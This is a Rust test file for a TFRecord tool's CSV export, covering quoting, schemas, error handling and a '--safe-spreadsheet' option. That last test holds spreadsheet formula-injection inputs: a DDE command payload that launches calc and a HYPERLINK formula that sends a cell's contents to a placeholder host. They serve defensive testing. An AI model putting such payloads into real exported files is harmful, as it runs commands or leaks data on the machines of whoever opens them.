//! `tfr to-csv`: a header and one row per record; columns from a schema
//! pass or `--schema`; one-value features as plain cells, lists as JSON
//! arrays (or left out with a note); RFC 4180 quoting; bytes that are not
//! UTF-8 as `{"base64":...}`. Python's csv module reading it back is in
//! tests/oracle/formats.py.

use crate::util::*;

/// A TFRecord file made from JSON lines (the JSONL mapping) by from-jsonl.
pub fn from_lines(dir: &Dir, name: &str, lines: &str) -> String {
    let path = dir.path(name).to_string_lossy().into_owned();
    dir.tfr(&["from-jsonl", "-o", &path]).stdin(lines.as_bytes()).run().ok();
    path
}

const LINES: &str = r#"{"id": [1], "text": ["plain"], "score": [0.1], "tags": ["a", "b"], "blob": [{"base64": "/wA="}]}
{"id": [2], "text": ["comma, \"quote\"\nnew line"], "score": {"float_list": ["NaN"]}, "tags": {"bytes_list": []}}
{"id": [-9223372036854775808], "text": ["naïve ✓"], "score": [1e-45], "tags": ["x"]}
"#;

#[test]
fn cells_are_quoted_as_rfc_4180_says_with_lists_as_json() {
    let dir = Dir::new();
    let input = from_lines(&dir, "in.tfrecord", LINES);
    let got = dir.tfr(&["to-csv", &input]).run().ok();
    let want = "blob,id,score,tags,text\n\
        \"{\"\"base64\"\":\"\"/wA=\"\"}\",1,0.1,\"[\"\"a\"\",\"\"b\"\"]\",plain\n\
        ,2,NaN,[],\"comma, \"\"quote\"\"\nnew line\"\n\
        ,-9223372036854775808,1e-45,\"[\"\"x\"\"]\",naïve ✓\n";
    assert_eq!(got, want);
    // The same bytes for any -j, and through -o.
    let out = dir.path("out.csv");
    dir.tfr(&["to-csv", "-j", "1", &input, "-o", out.to_str().unwrap()])
        .run()
        .ok();
    assert_eq!(std::fs::read_to_string(&out).unwrap(), want);
}

#[test]
fn lists_can_be_left_out_with_a_note() {
    let dir = Dir::new();
    let input = from_lines(&dir, "in.tfrecord", LINES);
    let ran = dir.tfr(&["to-csv", "--lists", "omit", &input]).run();
    let got = ran.warns();
    assert!(got.starts_with("blob,id,score,text\n"), "{got}");
    assert!(ran.stderr.contains("left out (--lists omit): tags"), "{}", ran.stderr);
}

#[test]
fn stdin_needs_a_schema_and_the_schema_chooses_the_columns() {
    let dir = Dir::new();
    let input = from_lines(&dir, "in.tfrecord", LINES);
    let bytes = std::fs::read(&input).unwrap();
    let e = dir.tfr(&["to-csv"]).stdin(&bytes).run().fails(2);
    assert!(e.contains("give --schema FILE"), "{e}");
    // A schema of only two of the features: the others are left out.
    let schema = r#"{"type": "example", "features": {"id": {"kind": "int64", "values": {"max": 1}},
        "text": {"kind": "bytes", "values": {"max": 1}}}}"#;
    let s = dir.write("schema.json", schema.as_bytes());
    let got = dir.tfr(&["to-csv", "--schema", &s, "-"]).stdin(&bytes).run().ok();
    assert!(got.starts_with("id,text\n1,plain\n2,\"comma"), "{got}");
    let bad = dir.write("bad.json", b"[1, 2]");
    let e = dir.tfr(&["to-csv", "--schema", &bad, &input]).run().fails(2);
    assert!(e.contains("--schema") && e.contains("not a JSON object"), "{e}");
}

#[test]
fn a_schema_pass_gives_the_columns_of_every_record() {
    // The notebook fixture: four one-value features in every record.
    let got = tfr(&["to-csv", &data("notebook.tfrecord")]).run().ok();
    let mut lines = got.lines();
    assert_eq!(lines.next(), Some("feature0,feature1,feature2,feature3"));
    assert_eq!(lines.next(), Some("0,2,chicken,-0.36918184"));
    assert_eq!(got.lines().count(), 201);
    // SequenceExamples: the context, with a note about the feature lists.
    let ran = tfr(&["to-csv", &data("sequence.tfrecord")]).run();
    assert!(ran.warns().starts_with("id,label,length,name,only,weight,ключ\n"));
    assert!(
        ran.stderr
            .contains("feature list(s) of the SequenceExamples are left out"),
        "{}",
        ran.stderr
    );
    // --where and -n choose the rows.
    let got = tfr(&[
        "to-csv",
        "--where",
        "feature2 == \"horse\"",
        "-n",
        "2",
        &data("notebook.tfrecord"),
    ])
    .run()
    .ok();
    assert_eq!(got.lines().count(), 3);
    assert!(got.lines().skip(1).all(|l| l.contains(",horse,")), "{got}");
}

#[test]
fn raw_records_and_damage_are_one_line_errors() {
    let e = tfr(&["to-csv", "--type", "raw", &data("notebook.tfrecord")])
        .run()
        .fails(2);
    assert!(e.contains("to-csv writes the features"), "{e}");
    let dir = Dir::new();
    let out = dir.path("out.csv");
    let e = tfr(&["to-csv", &data("data_crc.tfrecord"), "-o", out.to_str().unwrap()])
        .run()
        .fails(2);
    assert!(e.contains("checksum"), "{e}");
    assert!(!out.exists(), "no output after an error");
}

#[test]
fn features_past_the_schema_pass_limit_are_an_error_not_dropped() {
    // 5,100 features: the schema pass tracks 5,000; before, the other
    // 100 were left out of the CSV silently with exit 0.
    let dir = Dir::new();
    let line: Vec<String> = (0..5100).map(|i| format!("\"f{i:05}\": [{i}]")).collect();
    let src = from_lines(&dir, "wide.tfrecord", &format!("{{{}}}\n", line.join(", ")));
    let out = dir.path("wide.csv");
    let e = dir.tfr(&["to-csv", &src, "-o", out.to_str().unwrap()]).run().fails(2);
    assert!(
        e.contains("tracks at most 5000 features: 100 more would have no column"),
        "{e}"
    );
    assert!(!out.exists());
    // --features choosing fewer columns works.
    let got = dir.tfr(&["to-csv", &src, "--features", "f0000*"]).run().ok();
    assert_eq!(got.lines().next().unwrap().split(',').count(), 10, "{got}");
}

#[test]
fn the_schema_pass_reads_what_the_rows_need() {
    // -n: the columns of the first records only (a feature seen later has
    // none), and the pass stops there.
    let dir = Dir::new();
    let src = from_lines(
        &dir,
        "late.tfrecord",
        "{\"a\": [1]}\n{\"a\": [2]}\n{\"a\": [3], \"late\": [\"x\"]}\n",
    );
    assert_eq!(tfr(&["to-csv", "-n", "2", &src]).run().ok(), "a\n1\n2\n");
    assert_eq!(tfr(&["to-csv", "--skip", "1", "-n", "1", &src]).run().ok(), "a\n2\n");
    assert_eq!(tfr(&["to-csv", &src]).run().ok(), "a,late\n1,\n2,\n3,x\n");
    // Damage after the rows asked for is never read.
    let got = tfr(&["to-csv", "-n", "3", &data("data_crc.tfrecord")]).run().ok();
    assert_eq!(got.lines().count(), 4, "{got}");
    // Without -n: the rows before the damage, then its error (exit 2), as
    // to-jsonl does; a file is not kept.
    let ran = tfr(&["to-csv", &data("data_crc.tfrecord")]).run();
    let e = ran.fails(2);
    assert!(e.contains("checksum"), "{e}");
    let out = ran.stdout_str();
    assert_eq!(out.lines().count(), 6, "{out}");
}

#[test]
fn no_columns_write_nothing_and_a_schema_naming_no_feature_is_said() {
    // Before: a header line `""` (a column with an empty name) and a row
    // `""` per record, and no word about a --schema of other features.
    let dir = Dir::new();
    let empty = from_lines(&dir, "empty.tfrecord", "{}\n{}\n");
    let r = dir.tfr(&["to-csv", &empty]).run();
    assert_eq!(r.warns(), "");
    assert!(r.stderr.contains("no columns"), "{}", r.stderr);
    let none = dir.write("none.tfrecord", b"");
    let r = dir.tfr(&["to-csv", &none]).run();
    assert_eq!(r.warns(), "");
    // A --schema whose one feature no record has: its header, empty cells,
    // and a warning.
    let input = from_lines(&dir, "in.tfrecord", LINES);
    let schema = r#"{"type": "example", "features": {"z": {"kind": "int64", "values": {"max": 1}}}}"#;
    let s = dir.write("z.json", schema.as_bytes());
    let r = dir.tfr(&["to-csv", "--schema", &s, &input]).run();
    assert_eq!(r.warns(), "z\n\"\"\n\"\"\n\"\"\n");
    assert!(
        r.stderr
            .contains("none of its 1 column(s) is a feature of the 3 record(s) written"),
        "{}",
        r.stderr
    );
    // Damage is still found when there is no column.
    let bytes = std::fs::read(&empty).unwrap();
    let cut = dir.write("cut.tfrecord", &bytes[..bytes.len() - 2]);
    dir.tfr(&["to-csv", "--schema", &s, &cut]).run().fails(2);
    let no_features = dir.write("nf.json", br#"{"type": "example", "features": {}}"#);
    let e = dir.tfr(&["to-csv", "--schema", &no_features, &cut]).run().fails(2);
    assert!(e.contains("cut.tfrecord"), "{e}");
}

/// Issue 41: text a spreadsheet takes for a formula. By default the cells
/// are the dataset's text as it is; `--safe-spreadsheet` puts a `'` before
/// a text cell or feature name beginning with `=`, `+`, `-`, `@`, a tab, a
/// carriage return or a NUL, and leaves numbers (`-3`, `-0.5`,
/// `-Infinity`), lists and other text alone.
#[test]
fn formulas_are_neutralised_for_a_spreadsheet_numbers_kept() {
    let dir = Dir::new();
    let lines = concat!(
        r#"{"=cmd|' /C calc'!A0": ["x"], "t": ["=HYPERLINK(\"http://e/?\"&A1,\"x\")"], "i": [-3], "f": [-0.5]}"#,
        "\n",
        r#"{"t": ["+1"], "i": [4], "f": {"float_list": ["-Infinity"]}, "l": ["=a", "-b"]}"#,
        "\n",
        r#"{"t": ["-2"]}"#,
        "\n",
        r#"{"t": ["@SUM(A1)"]}"#,
        "\n",
        r#"{"t": ["\tx"]}"#,
        "\n",
        r#"{"t": ["\r=x"]}"#,
        "\n",
        r#"{"t": ["\u0000=x"]}"#,
        "\n",
        r#"{"t": ["a=b -c 'd"]}"#,
        "\n",
        r#"{"t": [""]}"#,
        "\n",
    );
    let input = from_lines(&dir, "f.tfrecord", lines);
    let plain = dir.tfr(&["to-csv", &input]).run().ok();
    let safe = dir.tfr(&["to-csv", "--safe-spreadsheet", &input]).run().ok();
    let want_plain = "=cmd|' /C calc'!A0,f,i,l,t\n\
        x,-0.5,-3,,\"=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"x\"\")\"\n\
        ,-Infinity,4,\"[\"\"=a\"\",\"\"-b\"\"]\",+1\n\
        ,,,,-2\n\
        ,,,,@SUM(A1)\n\
        ,,,,\tx\n\
        ,,,,\"\r=x\"\n\
        ,,,,\0=x\n\
        ,,,,a=b -c 'd\n\
        ,,,,\n";
    assert_eq!(plain, want_plain);
    let want_safe = "'=cmd|' /C calc'!A0,f,i,l,t\n\
        x,-0.5,-3,,\"'=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"x\"\")\"\n\
        ,-Infinity,4,\"[\"\"=a\"\",\"\"-b\"\"]\",'+1\n\
        ,,,,'-2\n\
        ,,,,'@SUM(A1)\n\
        ,,,,'\tx\n\
        ,,,,\"'\r=x\"\n\
        ,,,,'\0=x\n\
        ,,,,a=b -c 'd\n\
        ,,,,\n";
    assert_eq!(safe, want_safe);
    // Through -o, and the same for any -j.
    let out = dir.path("out.csv");
    dir.tfr(&[
        "to-csv",
        "--safe-spreadsheet",
        "-j",
        "3",
        &input,
        "-o",
        out.to_str().unwrap(),
    ])
    .run()
    .ok();
    assert_eq!(std::fs::read_to_string(&out).unwrap(), want_safe);
}
